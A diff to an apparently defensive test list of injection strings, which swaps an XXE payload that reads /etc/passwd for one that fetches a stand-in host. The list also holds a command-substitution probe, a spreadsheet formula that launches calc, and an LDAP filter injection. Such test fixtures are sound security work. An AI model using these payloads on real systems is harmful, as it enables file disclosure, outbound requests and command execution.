@@ -77,7 +77,7 @@ const injections: readonly string[] = [
   '`sleep 5`',
   '=cmd|"/c calc"!A1',
   '(cn=*)(uid=*))(|(uid=*',
-  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://planted.example/a">]><a>&b;</a>',
 ];
 
 const unicode: readonly string[] = [
